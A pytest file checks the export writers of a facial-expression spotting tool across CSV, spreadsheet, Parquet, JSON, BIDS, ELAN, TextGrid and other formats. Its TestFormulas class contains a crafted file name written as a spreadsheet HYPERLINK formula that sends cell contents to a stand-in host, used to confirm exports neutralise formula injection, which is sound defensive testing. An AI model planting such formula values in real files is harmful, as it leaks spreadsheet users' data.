"""Every format is opened by another reader than the one that facespot has for it."""

import csv
import io
import itertools
import json
import os
import re
import shutil
import stat
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import get_args
from xml.etree import ElementTree as ET

import numpy as np
import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest
import webvtt
from facespot import __version__
from facespot.errors import FacespotError
from facespot.extract.timebase import Timebase
from facespot.files import replacing
from facespot.spotting.columns import DESCRIBED
from facespot.spotting.datasets.spot_tables import read_spots
from facespot.spotting.explanations import Explanation
from facespot.spotting.intervals import EXPRESSION_TYPES, CutOff, Interval
from facespot.spotting.output.cells import guarded, unguarded
from facespot.spotting.output.formats import FORMATS, WRITERS, Writer, get_writer
from facespot.spotting.output.summary import SUMMARY_COLUMNS
from facespot.spotting.result import COLUMNS, SpotResult
from facespot.spotting.stimuli import Stimulus
from hypothesis import given
from hypothesis import strategies as st
from places import ROOT
from pympi.Elan import Eaf
from pympi.Praat import TextGrid

OVERLAPPING = [
    Interval(30, 45, 75, "macro", 0.9),
    Interval(60, 70, 100, "macro", 0.8),
    Interval(62, 70, 72, "macro", 0.8),
    Interval(75, 80, 85, "micro", 0.7),
    Interval(110, 110, 110, "micro", 0.6),
]
TABLES = ("csv", "tsv", "xlsx", "parquet", "json")


def make_result(intervals=None, video="some folder/clip, one.mp4", fps=25.0, seconds=8.0, **more) -> SpotResult:
    timebase = Timebase(np.arange(round(seconds * fps)) / fps)
    if intervals is None:
        intervals = [Interval(30, 45, 75, "macro", 0.91), Interval(120, 123, 129, "micro", 0.5)]
    n = timebase.n_ticks
    return SpotResult(
        video, tuple(i.on(timebase) for i in intervals), np.zeros(n), np.zeros(n, np.int32), timebase, 1.0, **more
    )


def render(name, result, path="clip.out"):
    return get_writer(name).render(result, Path(path))


def written(name, result, folder) -> Path:
    path = folder / f"clip{WRITERS[name].suffix}"
    get_writer(name).write(result, path)
    return path


def rows_of(text, delimiter=","):
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


class TestTables:
    def test_csv_has_exactly_the_promised_columns_and_source_frames(self):
        rows = list(csv.reader(io.StringIO(render("csv", make_result()))))
        first = ["video", "type", "onset_s", "apex_s", "offset_s", "onset_frame", "apex_frame", "offset_frame"]
        assert rows[0][:9] == [*first, "confidence"]
        assert [row[:9] for row in rows[1:]] == [
            ["some folder/clip, one.mp4", "macro", "1.000", "1.500", "2.500", "25", "37", "62", "0.910"],
            ["some folder/clip, one.mp4", "micro", "4.000", "4.100", "4.300", "100", "102", "107", "0.500"],
        ]

    def test_csv_of_nothing_is_the_header(self):
        assert render("csv", make_result([])) == ",".join(COLUMNS) + "\n"

    def test_tsv_says_the_same_as_csv(self):
        result = make_result(video="a\tb.mp4")
        assert rows_of(render("tsv", result), "\t") == rows_of(render("csv", result))

    @pytest.mark.parametrize("intervals", [None, []])
    def test_frame_has_its_columns_and_types_with_and_without_rows(self, intervals):
        frame = make_result(intervals).to_frame()
        assert list(frame.columns) == list(COLUMNS)
        assert [str(frame[name].dtype) for name in ("onset_s", "confidence", "onset_frame", "type")] == [
            "float64", "float64", "Int64", "string",
        ]  # fmt: skip

    def test_parquet_keeps_numbers_types_and_how_it_came_about(self, tmp_path):
        result = make_result(OVERLAPPING, provenance={"weights": "abc"}, warnings=("damaged",))
        path = written("parquet", result, tmp_path)
        frame = pd.read_parquet(path)
        assert list(frame.columns) == list(COLUMNS)
        for name in ("onset_s", "apex_s", "confidence", "offset_frame"):
            assert frame[name].tolist() == [row[name] for row in result.rows()]
        about = json.loads(pq.read_schema(path).metadata[b"facespot"])
        assert (about["provenance"], about["warnings"], about["fps"]) == ({"weights": "abc"}, ["damaged"], 25.0)
        empty = pq.read_schema(written("parquet", make_result([]), tmp_path))
        assert [str(empty.field(n).type) for n in ("video", "onset_s", "onset_frame")] == ["string", "double", "int64"]

    def test_xlsx_has_numbers_a_header_that_stays_and_a_legend(self, tmp_path):
        book = openpyxl.load_workbook(written("xlsx", make_result(), tmp_path))
        spots = book["spots"]
        assert [cell.value for cell in spots[1]] == list(COLUMNS)
        assert [cell.value for cell in spots[2]][:5] == ["some folder/clip, one.mp4", "macro", 1.0, 1.5, 2.5]
        assert spots["C2"].data_type == "n"
        assert spots.freeze_panes == "A2"
        legend = {row[0]: row[2] for row in book["columns"].iter_rows(values_only=True)}
        assert set(COLUMNS) <= set(legend)
        assert all(legend[name] for name in COLUMNS)

    def test_every_column_is_described(self):
        assert set(COLUMNS) <= set(DESCRIBED)
        assert set(get_args(CutOff)) == set(DESCRIBED["cut_off"].levels)
        assert set(EXPRESSION_TYPES) == set(DESCRIBED["type"].levels)

    @pytest.mark.parametrize("name", TABLES)
    def test_what_was_shown_becomes_a_column(self, name, tmp_path):
        stimuli = (Stimulus(0.0, 3.0, "neutral"), Stimulus(3.0, 4.05, "film"))
        text = render(name, make_result(stimuli=stimuli))
        if name == "xlsx":
            rows = list(openpyxl.load_workbook(io.BytesIO(text))["spots"].iter_rows(values_only=True))
            got = [row[rows[0].index("segment")] for row in rows[1:]]
        elif name == "parquet":
            got = pq.read_table(io.BytesIO(text))["segment"].to_pylist()
        elif name == "json":
            got = [spot["segment"] for spot in json.loads(text)["spots"]]
        else:
            got = [row["segment"] for row in rows_of(text, "\t" if name == "tsv" else ",")]
        assert [value or "" for value in got] == ["neutral", ""]


class TestFormulas:
    """A file can be named like a formula, and a spreadsheet would compute it."""

    NAME = '=HYPERLINK("http://x.example/?leak="&A1,"clip").mp4'

    @pytest.mark.parametrize("name", ["csv", "tsv", "bids", "boris", "megc2022", "megc2023"])
    @pytest.mark.parametrize("start", "=+-@\t\r")
    def test_no_field_of_a_text_table_begins_like_a_formula(self, name, start):
        delimiter = "," if name in ("csv", "megc2022", "megc2023") else "\t"
        text = render(name, make_result(video=f"{start}1+1.mp4"))
        fields = [field for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for field in row]
        assert not [field for field in fields if field[:1] in "=+-@\t\r" and field]

    def test_no_cell_of_a_workbook_is_a_formula(self, tmp_path):
        book = openpyxl.load_workbook(written("xlsx", make_result(video=self.NAME), tmp_path))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert not [
            cell for cell in cells if cell.data_type == "f" or cell.hyperlink or str(cell.value).startswith("=")
        ]

    @given(st.text())
    def test_guarding_can_be_undone(self, text):
        assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("name", TABLES)
def test_the_share_with_a_voice_is_read_back(name, tmp_path):
    """Empty where nobody listened, and a column that is not there in tables of before."""
    moved = (Explanation((), "", 2.0, 1.0, None, None, 0.0, 0.0, 0.9, (), voiced) for voiced in (0.625, None))
    result = make_result()
    spots = tuple(replace(s, explanation=e) for s, e in zip(result.spots, moved, strict=True))
    frame = read_spots(written(name, replace(result, spots=spots), tmp_path))
    assert frame["voiced"].dtype == "float64"
    assert frame["voiced"].iloc[0] == 0.625
    assert np.isnan(frame["voiced"].iloc[1])
    assert frame["speech"].tolist() == [0.9, 0.9]


def test_tables_of_before_there_was_a_voice_are_read(tmp_path):
    path = tmp_path / "clip.spots.csv"
    path.write_text("video,type,onset_s,offset_s,speech\na.mp4,macro,1.000,2.000,0.500\n")
    frame = read_spots(path)
    assert list(frame.columns) == ["video", "type", "onset_s", "offset_s", "speech"]
    assert frame["speech"].tolist() == [0.5]


class TestJson:
    def test_adds_how_it_came_about(self):
        result = make_result(warnings=("damaged",), provenance={"weights": "abc", "threshold": np.float32(0.5)})
        document = json.loads(render("json", result))
        assert document["version"] == __version__
        assert document["coverage"] == 1.0
        assert document["warnings"] == ["damaged"]
        assert document["provenance"] == {"weights": "abc", "threshold": 0.5}
        assert document["fps"] == pytest.approx(25.0)
        expected = {
            "type": "micro", "onset_s": 4.0, "apex_s": 4.1, "offset_s": 4.3,
            "onset_frame": 100, "apex_frame": 102, "offset_frame": 107, "confidence": 0.5,
        }  # fmt: skip
        assert document["spots"][1] | expected == document["spots"][1]

    def test_curves_of_speech_come_a_line_each_and_only_where_they_are_known(self):
        n = make_result().timebase.n_ticks
        speaking, voice = np.linspace(0, 1, n, dtype=np.float32), np.linspace(1, 0, n, dtype=np.float32)
        text = render("json", make_result(speaking=speaking, voice=voice))
        document = json.loads(text)
        assert document["rate_hz"] == 30.0
        for name, curve in (("speaking", speaking), ("voice", voice)):
            np.testing.assert_allclose(document[name], curve, atol=6e-4)
            assert sum(line.startswith(f'  "{name}": [') for line in text.splitlines()) == 1
        assert set(document) - set(json.loads(render("json", make_result()))) == {"rate_hz", "speaking", "voice"}
        assert "voice" not in json.loads(render("json", make_result(speaking=speaking)))

    def test_refuses_what_it_cannot_record(self):
        with pytest.raises(TypeError, match="object"):
            render("json", make_result(provenance={"x": object()}))


class TestBids:
    def test_events_and_their_sidecar(self, tmp_path):
        rows = rows_of(written("bids", make_result(), tmp_path).read_text(), "\t")
        assert list(rows[0])[:3] == ["onset", "duration", "trial_type"]
        assert [rows[0][name] for name in ("onset", "duration", "trial_type", "apex_s", "confidence")] == [
            "1.000", "1.500", "macro", "1.500", "0.910",
        ]  # fmt: skip
        sidecar = json.loads((tmp_path / "clip_events.json").read_text())
        assert set(rows[0]) <= set(sidecar)
        assert all(sidecar[name]["Description"] for name in rows[0])
        assert [sidecar[name]["Units"] for name in ("onset", "duration", "apex_s")] == ["s", "s", "s"]
        assert set(sidecar["trial_type"]["Levels"]) == {"macro", "micro"}

    def test_no_field_is_empty_or_breaks_the_line(self):
        text = render("bids", make_result(video="a\tb\nc.mp4", stimuli=(Stimulus(0.0, 1.0, "x"),)))
        assert [len(line.split("\t")) for line in text.splitlines()] == [len(text.splitlines()[0].split("\t"))] * 3
        assert {line.split("\t")[-1] for line in text.splitlines()[1:]} == {"n/a"}

    def test_the_validator_of_bids_has_nothing_against_it(self, tmp_path):
        validator = shutil.which("bids-validator-deno", path=os.pathsep.join([str(Path(sys.executable).parent)]))
        if validator is None:
            pytest.skip("bids-validator-deno is not installed")
        folder = tmp_path / "sub-01" / "beh"
        folder.mkdir(parents=True)
        get_writer("bids").write(make_result(OVERLAPPING), folder / "sub-01_task-watch_events.tsv")
        (tmp_path / "dataset_description.json").write_text('{"Name": "x", "BIDSVersion": "1.10.0", "License": "CC0"}')
        (tmp_path / "README").write_text("x" * 200)
        sidecar = folder / "sub-01_task-watch_events.json"
        sidecar.write_text(json.dumps(json.loads(sidecar.read_text()) | {"TaskName": "watch"}))
        try:
            done = subprocess.run([validator, tmp_path, "--json"], capture_output=True, text=True, timeout=120)
            issues = json.loads(done.stdout)["issues"]["issues"]
        except (subprocess.TimeoutExpired, json.JSONDecodeError) as error:
            pytest.skip(f"bids-validator-deno does not run here ({error})")
        assert not [issue for issue in issues if issue["severity"] == "error"], issues
        assert not [issue for issue in issues if "TSV" in issue["code"]], issues


def test_webvtt_cues_have_length_and_hours(tmp_path):
    single = Interval(3, 3, 3, "micro", 1.0)
    late = Interval(30 * 3700, 30 * 3700 + 30, 30 * 3702, "macro", 1.0)
    result = make_result([single, late], fps=1.0, seconds=3800)
    first, second = webvtt.read(str(written("vtt", result, tmp_path)), strict=True).captions
    assert (first.start, first.end) == ("00:00:00.100", "00:00:00.101")
    assert (second.start, second.end) == ("01:01:40.000", "01:01:42.000")
    assert second.text == "macro 1.00 (apex 3701.000 s)"


class TestElan:
    def tiers(self, root) -> dict[str, list[tuple[int, int, str]]]:
        times = {slot.get("TIME_SLOT_ID"): int(slot.get("TIME_VALUE")) for slot in root.iter("TIME_SLOT")}
        return {
            tier.get("TIER_ID"): [
                (
                    times[a.get("TIME_SLOT_REF1")],
                    times[a.get("TIME_SLOT_REF2")],
                    a.findtext("ANNOTATION_VALUE"),
                )
                for a in tier.iter("ALIGNABLE_ANNOTATION")
            ]
            for tier in root.iter("TIER")
        }

    def test_times_are_whole_milliseconds_and_tiers_do_not_overlap(self, tmp_path):
        video = tmp_path / "videos" / "a b & c.mp4"
        root = ET.parse(written("elan", make_result(OVERLAPPING, video=str(video)), tmp_path)).getroot()
        assert root.find("HEADER").get("TIME_UNITS") == "milliseconds"
        link = root.find("HEADER/MEDIA_DESCRIPTOR")
        assert link.get("MEDIA_URL") == video.as_uri()
        assert link.get("RELATIVE_MEDIA_URL") == "./videos/a b & c.mp4"
        assert link.get("MIME_TYPE") == "video/mp4"
        tiers = self.tiers(root)
        assert {name: spots for name, spots in tiers.items() if name.startswith("expression")} == {
            "expression": [(1000, 2500, "macro"), (2500, 2833, "micro"), (3667, 3669, "micro")],
            "expression 2": [(2000, 3333, "macro")],
            "expression 3": [(2067, 2400, "macro")],
        }
        assert tiers["apex"] == [(1500, 1540, "macro"), (2667, 2707, "micro"), (3667, 3669, "micro")]
        for number in ("", " 2", " 3"):
            for (onset, offset, _), (start, end, _) in zip(
                tiers[f"expression{number}"], tiers[f"apex{number}"], strict=True
            ):
                assert onset <= start < end <= offset
        identifiers = [a.get("ANNOTATION_ID") for a in root.iter() if a.get("ANNOTATION_ID")]
        assert len(set(identifiers)) == len(identifiers) == 3 * len(OVERLAPPING)
        last = next(p.text for p in root.iter("PROPERTY") if p.get("NAME") == "lastUsedAnnotationId")
        assert int(last) == max(int(i.removeprefix("a")) for i in identifiers)

    def test_types_come_from_one_vocabulary_and_the_rest_hangs_on_them(self, tmp_path):
        eaf = Eaf(written("elan", make_result(OVERLAPPING), tmp_path))
        words = {value for values, _ in eaf.get_cv_entries("expression").values() for value, _, _ in values}
        assert words == {"macro", "micro"}
        assert [language for language, _ in eaf.get_cv_descriptions("expression")] == ["und"]
        assert "und" in eaf.get_languages()
        kinds = {
            value for tier in ("expression", "expression 2") for *_, value in eaf.get_annotation_data_for_tier(tier)
        }
        assert kinds == words
        assert eaf.linguistic_types["expression"]["CONTROLLED_VOCABULARY_REF"] == "expression"
        assert eaf.linguistic_types["apex"]["CONSTRAINTS"] == "Included_In"
        assert eaf.linguistic_types["confidence"]["CONSTRAINTS"] == "Symbolic_Association"
        for name in ("apex", "confidence", "apex 2"):
            tier = eaf.get_parameters_for_tier(name)
            assert tier["PARENT_REF"] == "expression" + tier["TIER_ID"].removeprefix("apex").removeprefix("confidence")
        got = [(start, end, value) for start, end, value, _ in eaf.get_ref_annotation_data_for_tier("confidence")]
        assert got == [(1000, 2500, "0.900"), (2500, 2833, "0.700"), (3667, 3669, "0.600")]

    def test_elements_come_in_the_order_of_its_schema(self):
        root = ET.fromstring(render("elan", make_result()))
        order = ["HEADER", "TIME_ORDER", "TIER", "LINGUISTIC_TYPE", "LANGUAGE", "CONSTRAINT", "CONTROLLED_VOCABULARY"]
        assert [tag for tag, _ in itertools.groupby(child.tag for child in root)] == order
        slots = [int(slot.get("TIME_VALUE")) for slot in root.iter("TIME_SLOT")]
        assert slots == sorted(slots)
        used = {tier.get("LINGUISTIC_TYPE_REF") for tier in root.iter("TIER")}
        assert {kind.get("LINGUISTIC_TYPE_ID") for kind in root.iter("LINGUISTIC_TYPE")} == used


class TestTextGrid:
    @pytest.mark.parametrize("intervals", [[], OVERLAPPING, [Interval(0, 3, 237, "macro", 1.0)]])
    def test_tiers_tile_the_recording(self, intervals, tmp_path):
        grid = TextGrid(written("textgrid", make_result(intervals), tmp_path))
        assert grid.xmax == pytest.approx(8.0)
        named = 0
        for name in (tier for _, tier in grid.get_tier_name_num()):
            pieces = list(grid.get_tier(name).get_all_intervals())
            if name.startswith("apex"):
                assert len({time for time, _ in pieces}) == len(pieces)
                continue
            assert (pieces[0][0], pieces[-1][1]) == (0, grid.xmax)
            assert all(one[1] == following[0] for one, following in itertools.pairwise(pieces))
            assert all(start < end for start, end, _ in pieces)
            named += sum(text in ("macro", "micro") for *_, text in pieces) if name.startswith("expression") else 0
        assert named == len(intervals)

    def test_apex_and_confidence_are_tiers_of_their_own(self, tmp_path):
        grid = TextGrid(written("textgrid", make_result(), tmp_path))
        assert list(grid.get_tier("apex").get_all_intervals()) == [(1.5, "macro"), (4.1, "micro")]
        texts = [text for *_, text in grid.get_tier("confidence").get_intervals() if text]
        assert texts == ["0.910", "0.500"]

    def test_holds_an_interval_that_rounding_pushes_past_the_end(self):
        text = render("textgrid", make_result([Interval(0, 0, 0, "macro", 1.0)], fps=5000.0, seconds=0.0002))
        assert re.search(r"xmax = 0\.001\b", text)


def test_boris_events_pair_up_in_order_of_time(tmp_path):
    rows = rows_of(written("boris", make_result(OVERLAPPING), tmp_path).read_text(), "\t")
    times = [float(row["Time"]) for row in rows]
    assert times == sorted(times)
    on: dict[tuple[str, str], float] = {}
    found = []
    for row, time in zip(rows, times, strict=True):
        key = (row["Behavior"], row["Modifier #1"])
        if row["Behavior type"] == "START":
            assert key not in on
            on[key] = time
        elif row["Behavior type"] == "STOP":
            found.append((row["Behavior"], on.pop(key), time))
        else:
            assert row["Behavior"] == "apex"
    assert not on
    expected = [("macro", 1.0, 2.5), ("macro", 2.0, 3.333), ("macro", 2.067, 2.4), ("micro", 2.5, 2.833)]
    assert sorted(found) == [*expected, ("micro", 3.667, 3.668)]
    assert [row["Image index"] for row in rows if row["Behavior"] == "apex"] == ["37", "58", "58", "67", "92"]
    assert {row["Comment"] for row in rows if row["Behavior type"] == "START"} == {
        f"confidence 0.{n}00" for n in (9, 8, 7, 6)
    }


def test_megc_submissions_name_the_video_and_count_frames():
    assert rows_of(render("megc2022", make_result(video="x/clip, one.mp4")))[0] == {
        "vid": "clip, one", "pred_onset": "25", "pred_offset": "62", "type": "mae",
    }  # fmt: skip
    assert render("megc2023", make_result(video="a.mp4")) == "vid,onset,offset,type\na,25,62,mae\na,100,107,me\n"


class TestWriters:
    @pytest.mark.parametrize("name", FORMATS)
    def test_equal_results_give_equal_bytes(self, name, tmp_path):
        for folder in ("one", "two"):
            (tmp_path / folder).mkdir()
            get_writer(name).write(make_result(), tmp_path / folder / "clip")
        first, second = (
            {path.name: path.read_bytes() for path in (tmp_path / folder).iterdir()} for folder in ("one", "two")
        )
        assert first == second

    @pytest.mark.parametrize("name", FORMATS)
    def test_the_files_written_are_told(self, name, tmp_path):
        path = tmp_path / f"clip{WRITERS[name].suffix}"
        assert sorted(get_writer(name).write(make_result(), path)) == sorted(tmp_path.iterdir())

    @pytest.mark.parametrize("name", FORMATS)
    def test_file_name_that_is_not_unicode_is_no_obstacle(self, name, tmp_path):
        path = written(name, make_result(video=os.fsdecode(b"caf\xe9.mp4")), tmp_path)
        if name in ("csv", "tsv", "json"):
            assert b"caf\xe9.mp4" in path.read_bytes()

    def test_unknown_format_names_the_known_ones(self):
        with pytest.raises(ValueError, match="csv, tsv, json"):
            get_writer("docx")

    def test_what_is_not_installed_is_told_in_one_line(self, tmp_path):
        writer = Writer("xlsx", ".xlsx", "tables:render_xlsx", ("no_such_module",), "tables")
        with pytest.raises(
            FacespotError, match=r"^writing xlsx needs no_such_module: pip install 'facespot\[tables\]'$"
        ):
            writer.write(make_result(), tmp_path / "x.xlsx")
        assert not list(tmp_path.iterdir())

    def test_the_table_of_formats_loads_nothing_heavy(self):
        code = (
            "import sys; from facespot.spotting.output.formats import FORMATS; "
            "print({'numpy', 'pandas', 'pyarrow', 'xlsxwriter', 'pympi', 'praatio'} & set(sys.modules) or 'nothing')"
        )
        done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
        assert done.stdout.strip() == "nothing"

    def test_failed_writing_leaves_the_old_file_and_nothing_else(self, tmp_path):
        path = tmp_path / "result.csv"
        path.write_text("old")

        def fail_half_way():
            with replacing(path) as temporary:
                temporary.write_text("half")
                raise RuntimeError

        with pytest.raises(RuntimeError):
            fail_half_way()
        assert path.read_text() == "old"
        assert list(tmp_path.iterdir()) == [path]

    @pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX")
    def test_files_are_as_readable_as_any_new_file(self, tmp_path):
        (tmp_path / "plain").touch()
        get_writer("csv").write(make_result(), tmp_path / "written")
        modes = [stat.S_IMODE((tmp_path / name).stat().st_mode) for name in ("plain", "written")]
        assert modes[0] == modes[1]


def test_curves_must_fit_the_clock():
    good = make_result()
    with pytest.raises(ValueError, match="ticks"):
        SpotResult("v", (), good.intensity[:-1], good.segment, good.timebase, 1.0)


def test_the_page_about_formats_tells_all_of_them_and_every_column():
    page = (ROOT / "docs" / "formats.md").read_text(encoding="utf-8")
    rows = [line for line in page.splitlines() if line.startswith("| `")]
    told = {word for line in rows for word in re.findall(r"`(\w+)`", line.split("|")[1])}
    assert set(FORMATS) | set(DESCRIBED) | set(SUMMARY_COLUMNS) <= told
    assert all(f"clip{writer.suffix}" in page for writer in WRITERS.values() if not writer.name.startswith("megc"))
